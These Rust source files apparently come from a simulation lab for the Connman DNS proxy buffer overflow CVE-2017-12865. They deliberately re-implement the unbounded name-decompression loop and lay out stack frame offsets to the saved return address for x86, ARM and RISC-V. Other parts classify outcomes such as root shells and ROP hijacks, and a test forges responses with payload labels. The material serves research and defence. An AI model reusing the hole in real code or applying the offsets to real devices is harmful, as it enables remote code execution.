    /// and the gate accepts them iff the question echoes.
    #[test]
    fn forge_passes_gate_for_matching_query(
        id in any::<u16>(),
        qhost in hostname(),
        labels in proptest::collection::vec(proptest::collection::vec(any::<u8>(), 1..=63), 1..30),
    ) {
        let query = Message::query(id, Question::new(Name::parse(&qhost).unwrap(), RecordType::A));
        let built = ResponseForge::answering(&query).with_payload_labels(labels).unwrap().build();
        if let Ok(bytes) = built {
            prop_assert!(gate_response(&query, &bytes).is_ok());
            // A different id must be rejected.
            let other = Message::query(id.wrapping_add(1), query.questions()[0].clone());
            prop_assert!(gate_response(&other, &bytes).is_err());
        }
    }

    /// Label construction enforces exactly the wire limits.
    #[test]
    fn label_limits(bytes in proptest::collection::vec(any::<u8>(), 0..80)) {
        match Label::from_bytes_relaxed(&bytes) {
            Ok(l) => prop_assert!((1..=63).contains(&l.len())),
            Err(_) => prop_assert!(bytes.is_empty() || bytes.len() > 63),
        }
    }
}

/// Length of `m` if every name were encoded without compression.
fn uncompressed_len(m: &Message) -> usize {
    let mut n = 12usize;
    for q in m.questions() {
        n += q.qname().wire_len() + 4;
    }
    for r in m
        .answers()
        .iter()
        .chain(m.additionals())
        .chain(m.authorities())
    {
        n += r.name().wire_len() + 10;
        n += match r.data() {
            RecordData::A(_) => 4,
            RecordData::Aaaa(_) => 16,
            RecordData::Cname(x) | RecordData::Ns(x) | RecordData::Ptr(x) => x.wire_len(),
            RecordData::Mx { exchange, .. } => 2 + exchange.wire_len(),
            RecordData::Txt(strings) => strings.iter().map(|s| s.len() + 1).sum(),
            _ => 64,
        };
    }
    n
}

/// Reader/writer agree on arbitrary scalar sequences.
#[test]
fn wire_scalars_roundtrip() {
    let mut w = WireWriter::new();
    for i in 0..100u32 {
        w.write_u8(i as u8).unwrap();
        w.write_u16((i * 7) as u16).unwrap();
        w.write_u32(i * 104_729).unwrap();
    }
    let bytes = w.into_bytes();
    let mut r = WireReader::new(&bytes);
    for i in 0..100u32 {
        assert_eq!(r.read_u8("a").unwrap(), i as u8);
        assert_eq!(r.read_u16("b").unwrap(), (i * 7) as u16);
        assert_eq!(r.read_u32("c").unwrap(), i * 104_729);
    }
    assert!(r.is_empty());
}
