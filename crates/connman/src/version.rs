//! Connman version model.

use std::fmt;

/// A Connman release. The overflow exists in 1.34 and every earlier
/// release; 1.35 (August 2017) added the size checks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ConnmanVersion {
    /// Major version (always 1 for the releases in scope).
    pub major: u8,
    /// Minor version.
    pub minor: u8,
}

impl ConnmanVersion {
    /// Connman 1.31 — shipped by the Yocto builds the paper surveys.
    pub const V1_31: ConnmanVersion = ConnmanVersion {
        major: 1,
        minor: 31,
    };
    /// Connman 1.34 — the last vulnerable release (OpenELEC ships it).
    pub const V1_34: ConnmanVersion = ConnmanVersion {
        major: 1,
        minor: 34,
    };
    /// Connman 1.35 — the patched release.
    pub const V1_35: ConnmanVersion = ConnmanVersion {
        major: 1,
        minor: 35,
    };

    /// Creates an arbitrary 1.x version.
    pub fn new(major: u8, minor: u8) -> Self {
        ConnmanVersion { major, minor }
    }

    /// Whether this release contains CVE-2017-12865 (≤ 1.34).
    pub fn is_vulnerable(self) -> bool {
        self <= ConnmanVersion::V1_34
    }
}

impl fmt::Display for ConnmanVersion {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}.{}", self.major, self.minor)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn vulnerability_window() {
        assert!(ConnmanVersion::V1_31.is_vulnerable());
        assert!(ConnmanVersion::V1_34.is_vulnerable());
        assert!(!ConnmanVersion::V1_35.is_vulnerable());
        assert!(ConnmanVersion::new(1, 10).is_vulnerable());
        assert!(!ConnmanVersion::new(1, 36).is_vulnerable());
    }

    #[test]
    fn ordering_and_display() {
        assert!(ConnmanVersion::V1_31 < ConnmanVersion::V1_34);
        assert_eq!(ConnmanVersion::V1_34.to_string(), "1.34");
    }
}
