//! The proxy's record cache (type A/AAAA only, as in `dnsproxy.c`).

use std::collections::HashMap;
use std::net::IpAddr;

use cml_dns::{Name, RecordType};

/// One cached answer set.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CacheEntry {
    /// Addresses extracted from the answer records.
    pub addresses: Vec<IpAddr>,
    /// Absolute expiry tick (insert tick + TTL).
    pub expires_at: u64,
    /// Tick at which the entry was inserted (for LRU-ish eviction).
    pub inserted_at: u64,
}

/// A TTL-aware, capacity-bounded cache keyed by lower-cased name and
/// record type.
///
/// Connman caches only A and AAAA responses — which is exactly why the
/// vulnerable decompression runs only for those types; the cache honours
/// the same restriction via [`RecordType::is_cached_by_connman`].
#[derive(Debug, Clone)]
pub struct Cache {
    entries: HashMap<(String, RecordType), CacheEntry>,
    capacity: usize,
}

impl Default for Cache {
    fn default() -> Self {
        Self::new(Self::DEFAULT_CAPACITY)
    }
}

impl Cache {
    /// Default maximum entry count.
    pub const DEFAULT_CAPACITY: usize = 256;

    /// Creates a cache bounded to `capacity` entries.
    pub fn new(capacity: usize) -> Self {
        Cache {
            entries: HashMap::new(),
            capacity: capacity.max(1),
        }
    }

    /// Number of live entries (including not-yet-expired ones only after
    /// [`Cache::evict_expired`]).
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether the cache is empty.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    fn key(name: &Name, rtype: RecordType) -> (String, RecordType) {
        (name.to_string().to_ascii_lowercase(), rtype)
    }

    /// Inserts an answer set; ignores types Connman does not cache.
    /// Returns whether the entry was stored.
    pub fn insert(
        &mut self,
        name: &Name,
        rtype: RecordType,
        addresses: Vec<IpAddr>,
        ttl: u32,
        now: u64,
    ) -> bool {
        if !rtype.is_cached_by_connman() {
            return false;
        }
        if self.entries.len() >= self.capacity {
            // Evict the oldest entry.
            if let Some(oldest) = self
                .entries
                .iter()
                .min_by_key(|(_, e)| e.inserted_at)
                .map(|(k, _)| k.clone())
            {
                self.entries.remove(&oldest);
            }
        }
        self.entries.insert(
            Self::key(name, rtype),
            CacheEntry {
                addresses,
                expires_at: now + ttl as u64,
                inserted_at: now,
            },
        );
        true
    }

    /// Looks up a live entry.
    pub fn lookup(&self, name: &Name, rtype: RecordType, now: u64) -> Option<&CacheEntry> {
        self.entries
            .get(&Self::key(name, rtype))
            .filter(|e| e.expires_at > now)
    }

    /// Drops expired entries; returns how many were removed.
    pub fn evict_expired(&mut self, now: u64) -> usize {
        let before = self.entries.len();
        self.entries.retain(|_, e| e.expires_at > now);
        before - self.entries.len()
    }

    /// Empties the cache.
    pub fn clear(&mut self) {
        self.entries.clear();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv4Addr;

    fn name(s: &str) -> Name {
        Name::parse(s).unwrap()
    }

    fn ip(last: u8) -> IpAddr {
        IpAddr::V4(Ipv4Addr::new(10, 0, 0, last))
    }

    #[test]
    fn insert_lookup_roundtrip_case_insensitive() {
        let mut c = Cache::default();
        assert!(c.insert(&name("Example.COM"), RecordType::A, vec![ip(1)], 60, 100));
        let e = c.lookup(&name("example.com"), RecordType::A, 120).unwrap();
        assert_eq!(e.addresses, vec![ip(1)]);
        assert!(c
            .lookup(&name("example.com"), RecordType::Aaaa, 120)
            .is_none());
    }

    #[test]
    fn ttl_expiry() {
        let mut c = Cache::default();
        c.insert(&name("a.b"), RecordType::A, vec![ip(2)], 30, 100);
        assert!(c.lookup(&name("a.b"), RecordType::A, 129).is_some());
        assert!(c.lookup(&name("a.b"), RecordType::A, 130).is_none());
        assert_eq!(c.evict_expired(130), 1);
        assert!(c.is_empty());
    }

    #[test]
    fn only_a_and_aaaa_cached() {
        let mut c = Cache::default();
        assert!(!c.insert(&name("a.b"), RecordType::Txt, vec![], 60, 0));
        assert!(c.insert(&name("a.b"), RecordType::Aaaa, vec![], 60, 0));
        assert_eq!(c.len(), 1);
    }

    #[test]
    fn capacity_evicts_oldest() {
        let mut c = Cache::new(2);
        c.insert(&name("one"), RecordType::A, vec![ip(1)], 600, 1);
        c.insert(&name("two"), RecordType::A, vec![ip(2)], 600, 2);
        c.insert(&name("three"), RecordType::A, vec![ip(3)], 600, 3);
        assert_eq!(c.len(), 2);
        assert!(
            c.lookup(&name("one"), RecordType::A, 4).is_none(),
            "oldest evicted"
        );
        assert!(c.lookup(&name("three"), RecordType::A, 4).is_some());
    }
}
