//! Simulated Connman DNS proxy — the target of every experiment.
//!
//! This crate ports the `dnsproxy.c` logic at the heart of
//! CVE-2017-12865 into the lab. The port is *behaviourally* faithful
//! where it matters:
//!
//! * the proxy accepts a response only after the same header checks the
//!   real daemon performs ([`cml_dns::validate::gate_response`]);
//! * name decompression ([`uncompress`]) re-implements the vulnerable
//!   `get_name` loop — length byte plus label bytes appended to a
//!   1024-byte `name` buffer with **no bounds check** in versions ≤ 1.34,
//!   and with the August-2017 bounds check in 1.35;
//! * the `name` buffer, locals, saved registers and return address live
//!   in a [`Frame`] on the *simulated machine's stack*, so an oversized
//!   response genuinely overwrites a saved return address in memory;
//! * after parsing, the daemon executes the function epilogue: saved
//!   registers are restored from (possibly clobbered) stack slots and
//!   control transfers to the saved return address. If that address was
//!   overwritten, the machine interprets whatever the attacker supplied —
//!   shellcode, a ret2libc frame, or a ROP chain.
//!
//! The crate also provides the proxy's record [`Cache`] (type A/AAAA
//! only, as in Connman) and the [`Daemon`] state machine gluing it all
//! together.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod cache;
mod cov;
mod daemon;
mod frame;
mod outcome;
pub mod uncompress;
mod version;

pub use cache::{Cache, CacheEntry};
pub use daemon::{Daemon, DaemonError, DaemonSnapshot, DaemonState, PendingQuery, Resolution};
pub use frame::{layout_for, Frame, FrameLayout};
pub use outcome::ProxyOutcome;
pub use version::ConnmanVersion;

/// Size of the `name` buffer in `parse_response` — the constant whose
/// unchecked use is the vulnerability (`dnsproxy.c`: `char name[NAME_SIZE]`
/// with `NAME_SIZE 1024`).
pub const NAME_BUFFER_SIZE: usize = 1024;

/// Symbol name the daemon's image must define for the vulnerable
/// function (used for fault attribution).
pub const SYM_PARSE_RESPONSE: &str = "parse_response";

/// Symbol name for the legitimate return site inside the daemon loop.
pub const SYM_DAEMON_LOOP: &str = "daemon_loop";

/// Symbol name for the one-time boot initialization routine. Optional:
/// when an image defines it, `Firmware::boot_service` executes it once
/// before the daemon starts serving — which is exactly the work the
/// snapshot/fork boot path amortizes away.
pub const SYM_DAEMON_INIT: &str = "daemon_init";

/// Symbol name for the dnsproxy reply entry point — the function that
/// first touches attacker bytes (`dnsproxy.c: forward_dns_reply`). The
/// static analyzer seeds taint here and propagates it down the call
/// chain to [`SYM_PARSE_RESPONSE`].
pub const SYM_FORWARD_DNS_REPLY: &str = "forward_dns_reply";

/// Symbol name for the name-decompression helper sitting between
/// [`SYM_FORWARD_DNS_REPLY`] and [`SYM_PARSE_RESPONSE`] on the real
/// CVE-2017-12865 call path (`dnsproxy.c: uncompress`).
pub const SYM_UNCOMPRESS: &str = "uncompress";
