//! What happened when the proxy processed a response.

use std::fmt;

use cml_dns::validate::ResponseRejection;
use cml_vm::debug::FaultReport;
use cml_vm::ShellSpawn;

/// Outcome of delivering one upstream response to the proxy.
#[derive(Debug, Clone, PartialEq)]
#[non_exhaustive]
pub enum ProxyOutcome {
    /// The header gate dropped the packet; the daemon keeps running.
    Rejected(ResponseRejection),
    /// The answer section failed to parse (including the 1.35 bounds
    /// check); the daemon keeps running.
    ParseFailed {
        /// Human-readable reason.
        reason: String,
    },
    /// Normal operation: the response was parsed and forwarded.
    Answered {
        /// How many answer records were cached.
        cached: usize,
    },
    /// The daemon crashed — the denial-of-service outcome.
    Crashed(Box<FaultReport>),
    /// Arbitrary code executed and spawned a shell — the RCE outcome.
    Compromised(ShellSpawn),
    /// Hijacked execution ended in a clean exit (e.g. a ret2libc frame
    /// that called `exit`).
    HijackedExit {
        /// The exit code.
        code: i32,
    },
    /// The daemon was already dead when the response arrived.
    DaemonDown,
}

impl ProxyOutcome {
    /// The paper's success criterion: a root shell.
    pub fn is_root_shell(&self) -> bool {
        matches!(self, ProxyOutcome::Compromised(s) if s.is_root_shell())
    }

    /// Whether the daemon survived this response.
    pub fn daemon_alive(&self) -> bool {
        matches!(
            self,
            ProxyOutcome::Rejected(_)
                | ProxyOutcome::ParseFailed { .. }
                | ProxyOutcome::Answered { .. }
        )
    }

    /// Whether this is a denial of service (daemon dead, no shell).
    pub fn is_dos(&self) -> bool {
        matches!(
            self,
            ProxyOutcome::Crashed(_) | ProxyOutcome::HijackedExit { .. }
        )
    }
}

impl fmt::Display for ProxyOutcome {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ProxyOutcome::Rejected(r) => write!(f, "rejected: {r}"),
            ProxyOutcome::ParseFailed { reason } => write!(f, "parse failed: {reason}"),
            ProxyOutcome::Answered { cached } => write!(f, "answered ({cached} cached)"),
            ProxyOutcome::Crashed(report) => write!(f, "crashed: {}", report.fault),
            ProxyOutcome::Compromised(s) => write!(f, "compromised: {s}"),
            ProxyOutcome::HijackedExit { code } => write!(f, "hijacked exit ({code})"),
            ProxyOutcome::DaemonDown => write!(f, "daemon down"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cml_vm::Fault;

    #[test]
    fn classification() {
        let answered = ProxyOutcome::Answered { cached: 1 };
        assert!(answered.daemon_alive());
        assert!(!answered.is_dos());
        assert!(!answered.is_root_shell());

        let crash = ProxyOutcome::Crashed(Box::new(FaultReport {
            fault: Fault::UnmappedFetch { pc: 0x41414141 },
            pc: Some(0x41414141),
            sp: 0,
            stack: vec![],
        }));
        assert!(crash.is_dos());
        assert!(!crash.daemon_alive());

        let shell = ProxyOutcome::Compromised(ShellSpawn {
            program: "/bin/sh".into(),
            argv: vec![],
            via: "execve",
            uid: 0,
        });
        assert!(shell.is_root_shell());
        assert!(!shell.daemon_alive());
        assert!(!shell.is_dos());
    }
}
