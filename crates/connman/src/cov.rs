//! Virtual-edge locations for the fuzzer's coverage map.
//!
//! The daemon's DNS parsing is *ported* code: it writes through the
//! simulated MMU but executes no guest instructions, so the VM's
//! block-dispatch coverage hook alone cannot see parse progress. These
//! constants are the ported code's instrumentation points — the moral
//! equivalent of compile-time coverage instrumentation of the real
//! `dnsproxy.c`. Each call site feeds
//! [`cml_vm::Machine::cov_note`] a base tag mixed with a coarse
//! power-of-two bucket, so "the name grew past 256 bytes" or "the walk
//! took a 17th pointer hop" lights a fresh edge while byte-level noise
//! does not. Every note is a no-op unless the fuzzer armed the map.

/// Label appended to the name buffer; bucketed by bytes written so far.
pub(crate) const LABEL: u32 = 0x00C0_0000;
/// Compression-pointer hop taken; bucketed by hop count.
pub(crate) const HOP: u32 = 0x00C1_0000;
/// `get_name` returned successfully; bucketed by final name length.
pub(crate) const NAME_OK: u32 = 0x00C2_0000;
/// `get_name` bailed: truncated or reserved-bit label.
pub(crate) const NAME_MALFORMED: u32 = 0x00C3_0000;
/// `get_name` bailed: pointer-loop cap.
pub(crate) const NAME_LOOP: u32 = 0x00C4_0000;
/// `get_name` bailed: the 1.35 bounds check; bucketed by needed bytes.
pub(crate) const NAME_FULL: u32 = 0x00C5_0000;
/// `get_name` bailed: the overflowing write itself faulted.
pub(crate) const NAME_FAULT: u32 = 0x00C6_0000;
/// Response passed the daemon's header/question gate.
pub(crate) const GATE_PASS: u32 = 0x00C7_0000;
/// One answer record fully parsed; bucketed by record index.
pub(crate) const RR_PARSED: u32 = 0x00C8_0000;

/// Coarse power-of-two bucket: 0 for 0, else `floor(log2(n)) + 1`.
pub(crate) fn bucket(n: usize) -> u32 {
    usize::BITS - n.leading_zeros()
}

#[cfg(test)]
mod tests {
    use super::bucket;

    #[test]
    fn buckets_are_coarse_and_monotonic() {
        assert_eq!(bucket(0), 0);
        assert_eq!(bucket(1), 1);
        assert_eq!(bucket(2), 2);
        assert_eq!(bucket(3), 2);
        assert_eq!(bucket(1023), 10);
        assert_eq!(bucket(1024), 11);
        assert!(bucket(4096) > bucket(1024));
    }
}
