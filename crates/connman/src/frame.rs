//! The `parse_response` stack frame, materialized in machine memory.
//!
//! Offsets model a plausible compilation of the real function. What
//! matters for fidelity is the *shape* the paper's exploits interact
//! with: a 1024-byte buffer below a small pad, saved registers, and the
//! saved return address; on ARM additionally two local slots that
//! `parse_rr` dereferences when non-NULL (the paper had to keep them
//! NULL to survive until the `pop {pc}`).

use cml_image::{Addr, Arch};
use cml_vm::{ArmReg, Fault, Machine, RiscvReg, X86Reg};

use crate::NAME_BUFFER_SIZE;

/// Per-architecture frame geometry (offsets from the buffer start).
///
/// The default layouts model the Connman `parse_response` frame with its
/// 1024-byte `name` buffer; [`FrameLayout::scaled`] builds the same
/// shape around a different buffer size, which is how the §V adaptation
/// experiments model *other* vulnerable services (dnsmasq-like,
/// resolver-like) without new exploit code.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FrameLayout {
    /// Architecture the layout models.
    pub arch: Arch,
    /// Size of the overflowable buffer.
    pub buf_size: usize,
    /// Offset of the saved return address from the buffer start.
    pub ret_offset: usize,
    /// Offset of the canary slot (meaningful only when canaries are
    /// compiled in).
    pub canary_offset: usize,
    /// Offsets of the locals that ARM's `parse_rr` treats as pointers
    /// when non-NULL (empty on x86).
    pub null_check_offsets: [Option<usize>; 2],
    /// Offset of the saved callee-saved register block.
    pub saved_regs_offset: usize,
    /// Number of saved callee-saved registers.
    pub saved_regs_count: usize,
}

impl FrameLayout {
    /// The paper's Connman layouts (1024-byte buffer).
    pub fn connman(arch: Arch) -> FrameLayout {
        FrameLayout::scaled(arch, NAME_BUFFER_SIZE)
    }

    /// The same frame shape around an arbitrary buffer size.
    ///
    /// # Panics
    ///
    /// Panics unless `buf_size` is a positive multiple of 4.
    pub fn scaled(arch: Arch, buf_size: usize) -> FrameLayout {
        assert!(
            buf_size > 0 && buf_size.is_multiple_of(4),
            "buffer must be word-sized"
        );
        match arch {
            // x86: `[buf][locals 8][canary 4][saved ebp 4][ret]`.
            Arch::X86 => FrameLayout {
                arch,
                buf_size,
                ret_offset: buf_size + 16,
                canary_offset: buf_size + 8,
                null_check_offsets: [None, None],
                saved_regs_offset: buf_size + 12,
                saved_regs_count: 1, // ebp
            },
            // ARM: `[buf][null slots 8][canary 4][pad 4][saved r4-r11 32][saved lr]`.
            Arch::Armv7 => FrameLayout {
                arch,
                buf_size,
                ret_offset: buf_size + 48,
                canary_offset: buf_size + 8,
                null_check_offsets: [Some(buf_size), Some(buf_size + 4)],
                saved_regs_offset: buf_size + 16,
                saved_regs_count: 8, // r4-r11
            },
            // RISC-V: `[buf][pad 8][canary 4][pad 4][saved s0-s3 16][saved ra]`.
            // gcc on rv32 spills only the callee-saved registers the body
            // uses; parse_response touches four, and keeps no ARM-style
            // pointer locals between the buffer and the canary.
            Arch::Riscv => FrameLayout {
                arch,
                buf_size,
                ret_offset: buf_size + 32,
                canary_offset: buf_size + 8,
                null_check_offsets: [None, None],
                saved_regs_offset: buf_size + 16,
                saved_regs_count: 4, // s0, s1, s2, s3
            },
        }
    }

    /// The ARM NULL-check slot offsets actually present.
    pub fn null_offsets(&self) -> impl Iterator<Item = usize> + '_ {
        self.null_check_offsets.iter().flatten().copied()
    }
}

/// Returns the Connman layout for an architecture.
pub fn layout_for(arch: Arch) -> FrameLayout {
    FrameLayout::connman(arch)
}

/// A concrete frame instance: the layout bound to addresses on the
/// simulated stack.
#[derive(Debug, Clone, Copy)]
pub struct Frame {
    layout: FrameLayout,
    buf_addr: Addr,
    caller_sp: Addr,
}

impl Frame {
    /// Lays the frame out as if the daemon loop (running with stack
    /// pointer `caller_sp`) had just called `parse_response`, and plants
    /// the legitimate saved state: return address `resume_pc`, canary
    /// (when non-zero), NULL locals, and benign saved-register values.
    ///
    /// # Errors
    ///
    /// Returns a [`Fault`] if the stack mapping rejects the setup writes.
    pub fn enter(
        machine: &mut Machine,
        caller_sp: Addr,
        resume_pc: Addr,
        canary: u32,
        pc: Addr,
    ) -> Result<Frame, Fault> {
        let layout = layout_for(machine.arch());
        Frame::enter_with(machine, layout, caller_sp, resume_pc, canary, pc)
    }

    /// Like [`Frame::enter`] but with an explicit geometry — used to
    /// model services other than Connman (paper §V).
    ///
    /// # Errors
    ///
    /// Returns a [`Fault`] if the stack mapping rejects the setup writes.
    pub fn enter_with(
        machine: &mut Machine,
        layout: FrameLayout,
        caller_sp: Addr,
        resume_pc: Addr,
        canary: u32,
        pc: Addr,
    ) -> Result<Frame, Fault> {
        // Return-address slot sits just below the caller's stack pointer
        // (x86 `call` pushes it; ARM's prologue stores lr there).
        let ret_addr = caller_sp.wrapping_sub(4);
        let buf_addr = ret_addr.wrapping_sub(layout.ret_offset as u32);
        let frame = Frame {
            layout,
            buf_addr,
            caller_sp,
        };
        let mem = machine.mem_mut();
        mem.write_u32(ret_addr, resume_pc, pc)?;
        for (i, slot) in (0..layout.saved_regs_count).enumerate() {
            // Benign callee-saved values: recognizable, mapped-nothing.
            let v = 0x5A5A_0000u32 | slot as u32;
            mem.write_u32(
                buf_addr.wrapping_add((layout.saved_regs_offset + 4 * i) as u32),
                v,
                pc,
            )?;
        }
        for off in layout.null_offsets() {
            mem.write_u32(buf_addr.wrapping_add(off as u32), 0, pc)?;
        }
        if canary != 0 {
            mem.write_u32(
                buf_addr.wrapping_add(layout.canary_offset as u32),
                canary,
                pc,
            )?;
        }
        // The function body runs with sp at the buffer (frame fully
        // reserved).
        machine.regs_mut().set_sp(buf_addr);
        machine.shadow_push(resume_pc);
        Ok(frame)
    }

    /// The frame's geometry.
    pub fn layout(&self) -> FrameLayout {
        self.layout
    }

    /// Address of the `name` buffer.
    pub fn buf_addr(&self) -> Addr {
        self.buf_addr
    }

    /// Address of the saved return address slot.
    pub fn ret_slot(&self) -> Addr {
        self.buf_addr.wrapping_add(self.layout.ret_offset as u32)
    }

    /// Address of the canary slot.
    pub fn canary_slot(&self) -> Addr {
        self.buf_addr.wrapping_add(self.layout.canary_offset as u32)
    }

    /// Reads the (possibly clobbered) saved return address.
    ///
    /// # Errors
    ///
    /// Returns a [`Fault`] if the slot is unreadable.
    pub fn saved_ret(&self, machine: &Machine) -> Result<Addr, Fault> {
        machine.mem().read_u32(self.ret_slot(), 0)
    }

    /// Runs the ARM `parse_rr` pointer checks: each NULL-check local that
    /// is non-zero is dereferenced; a bogus pointer faults exactly as the
    /// paper's `mvn.w`-adjacent crash did.
    ///
    /// # Errors
    ///
    /// Returns the dereference [`Fault`] when a clobbered local points
    /// into unmapped memory.
    pub fn run_parse_rr_checks(&self, machine: &Machine, pc: Addr) -> Result<(), Fault> {
        for off in self.layout.null_offsets() {
            let v = machine
                .mem()
                .read_u32(self.buf_addr.wrapping_add(off as u32), pc)?;
            if v != 0 {
                // The C code treats this local as a pointer to record
                // state and reads through it.
                machine.mem().read_u32(v, pc)?;
            }
        }
        Ok(())
    }

    /// Verifies the canary slot against the machine's canary.
    ///
    /// # Errors
    ///
    /// Returns [`Fault::CanarySmashed`] on mismatch.
    pub fn check_canary(&self, machine: &Machine, pc: Addr) -> Result<(), Fault> {
        if machine.canary() == 0 {
            return Ok(());
        }
        let found = machine.mem().read_u32(self.canary_slot(), pc)?;
        if found != machine.canary() {
            return Err(Fault::CanarySmashed {
                found,
                expected: machine.canary(),
            });
        }
        Ok(())
    }

    /// Executes the function epilogue: restores callee-saved registers
    /// from their (possibly clobbered) slots, points the stack pointer
    /// past the return slot, and transfers control to the saved return
    /// address (CFI-checked when enabled).
    ///
    /// On return the machine's `pc` holds wherever the saved return
    /// address pointed; if the frame was smashed, that is
    /// attacker-controlled.
    ///
    /// # Errors
    ///
    /// Returns a [`Fault`] if restoring state faults or CFI rejects the
    /// return target.
    pub fn leave(&self, machine: &mut Machine, pc: Addr) -> Result<(), Fault> {
        let target = self.saved_ret(machine)?;
        match self.layout.arch {
            Arch::X86 => {
                let ebp = machine.mem().read_u32(
                    self.buf_addr
                        .wrapping_add(self.layout.saved_regs_offset as u32),
                    pc,
                )?;
                machine.regs_mut().x86_mut().set(X86Reg::Ebp, ebp);
            }
            Arch::Armv7 => {
                for i in 0..self.layout.saved_regs_count {
                    let v = machine.mem().read_u32(
                        self.buf_addr
                            .wrapping_add((self.layout.saved_regs_offset + 4 * i) as u32),
                        pc,
                    )?;
                    machine.regs_mut().arm_mut().set(ArmReg(4 + i as u8), v);
                }
            }
            Arch::Riscv => {
                // s0, s1 are x8, x9; s2.. start at x18.
                const SAVED: [RiscvReg; 4] = [RiscvReg(8), RiscvReg(9), RiscvReg(18), RiscvReg(19)];
                for (i, reg) in SAVED.iter().take(self.layout.saved_regs_count).enumerate() {
                    let v = machine.mem().read_u32(
                        self.buf_addr
                            .wrapping_add((self.layout.saved_regs_offset + 4 * i) as u32),
                        pc,
                    )?;
                    machine.regs_mut().riscv_mut().set(*reg, v);
                }
            }
        }
        // sp lands just above the return slot: on x86 that is what `ret`
        // leaves behind; on ARM the epilogue's `add sp` does the same.
        machine.regs_mut().set_sp(self.caller_sp);
        machine.ret_to(target, pc)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cml_image::{Perms, SectionKind};

    fn machine(arch: Arch) -> Machine {
        let mut m = Machine::new(arch);
        m.mem_mut().map(
            "stack",
            Some(SectionKind::Stack),
            0x1_0000,
            0x4000,
            Perms::RW,
        );
        m.regs_mut().set_sp(0x1_3000);
        m
    }

    #[test]
    fn geometry_x86() {
        let mut m = machine(Arch::X86);
        let f = Frame::enter(&mut m, 0x1_3000, 0xAABB_CCDD, 0, 0).unwrap();
        assert_eq!(f.ret_slot(), 0x1_3000 - 4);
        assert_eq!(f.buf_addr(), 0x1_3000 - 4 - (1024 + 16) as u32);
        assert_eq!(f.saved_ret(&m).unwrap(), 0xAABB_CCDD);
        assert_eq!(m.regs().sp(), f.buf_addr());
    }

    #[test]
    fn geometry_arm_with_null_slots() {
        let mut m = machine(Arch::Armv7);
        let f = Frame::enter(&mut m, 0x1_3000, 0x0001_2345, 0, 0).unwrap();
        assert_eq!(f.ret_slot() - f.buf_addr(), 1024 + 48);
        f.run_parse_rr_checks(&m, 0).unwrap();
        // Clobber a NULL slot with a bogus pointer: checks now fault.
        m.mem_mut()
            .write_u32(f.buf_addr() + 1024, 0x4141_4141, 0)
            .unwrap();
        assert!(matches!(
            f.run_parse_rr_checks(&m, 0),
            Err(Fault::UnmappedRead {
                addr: 0x4141_4141,
                ..
            })
        ));
        // A *mapped* pointer (e.g. into the stack itself) passes — which
        // is why placeholder values in the paper's chains could also be
        // valid addresses rather than zero.
        m.mem_mut()
            .write_u32(f.buf_addr() + 1024, 0x1_0000, 0)
            .unwrap();
        f.run_parse_rr_checks(&m, 0).unwrap();
    }

    #[test]
    fn canary_detects_clobber() {
        let mut m = machine(Arch::X86);
        m.set_canary(0xFEED_F000);
        let f = Frame::enter(&mut m, 0x1_3000, 0x1000, 0xFEED_F000, 0).unwrap();
        f.check_canary(&m, 0).unwrap();
        m.mem_mut()
            .write_u32(f.canary_slot(), 0x4242_4242, 0)
            .unwrap();
        assert!(matches!(
            f.check_canary(&m, 0),
            Err(Fault::CanarySmashed { .. })
        ));
    }

    #[test]
    fn epilogue_restores_and_returns() {
        let mut m = machine(Arch::Armv7);
        let f = Frame::enter(&mut m, 0x1_3000, 0xDEAD_BEE0, 0, 0).unwrap();
        f.leave(&mut m, 0).unwrap();
        assert_eq!(m.regs().pc(), 0xDEAD_BEE0);
        assert_eq!(m.regs().sp(), 0x1_3000);
        // r4 got the planted benign value.
        assert_eq!(m.regs().arm().get(ArmReg(4)), 0x5A5A_0000);
    }

    #[test]
    fn smashed_ret_controls_pc() {
        let mut m = machine(Arch::X86);
        let f = Frame::enter(&mut m, 0x1_3000, 0x1000, 0, 0).unwrap();
        m.mem_mut().write_u32(f.ret_slot(), 0x6161_6161, 0).unwrap();
        f.leave(&mut m, 0).unwrap();
        assert_eq!(m.regs().pc(), 0x6161_6161);
    }

    #[test]
    fn cfi_rejects_smashed_ret() {
        let mut m = machine(Arch::X86);
        m.enable_cfi();
        let f = Frame::enter(&mut m, 0x1_3000, 0x1000, 0, 0).unwrap();
        m.mem_mut().write_u32(f.ret_slot(), 0x6161_6161, 0).unwrap();
        assert!(matches!(
            f.leave(&mut m, 0),
            Err(Fault::CfiViolation {
                target: 0x6161_6161,
                ..
            })
        ));
        // And accepts the legitimate return.
        let mut m = machine(Arch::X86);
        m.enable_cfi();
        let f = Frame::enter(&mut m, 0x1_3000, 0x1000, 0, 0).unwrap();
        f.leave(&mut m, 0).unwrap();
        assert_eq!(m.regs().pc(), 0x1000);
    }
}
