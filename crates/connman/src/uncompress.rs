//! The `get_name` port: DNS name decompression into a stack buffer.
//!
//! The real code (Connman `dnsproxy.c`) walks the response packet's
//! label chain, appending each label's length byte and content to the
//! caller's `name` buffer:
//!
//! ```c
//! name[(*name_len)++] = label_len;
//! memcpy(name + *name_len, p + 1, label_len + 1);
//! *name_len += label_len;
//! ```
//!
//! Versions ≤ 1.34 never compare `*name_len` against the buffer size —
//! that is CVE-2017-12865. Version 1.35 returns `-ENOBUFS` when the
//! label would overflow. Both behaviours are implemented here, selected
//! by [`ConnmanVersion`]; the vulnerable path writes straight through
//! the simulated MMU, so the overflow lands in real (simulated) stack
//! memory.

use cml_vm::{Addr, Fault, Machine};

use crate::{cov, ConnmanVersion, NAME_BUFFER_SIZE};

/// Why decompression stopped without producing a name.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum UncompressError {
    /// The packet ended mid-name; the daemon dumps the response and
    /// keeps running.
    Malformed,
    /// Too many compression-pointer hops (both versions cap the walk so
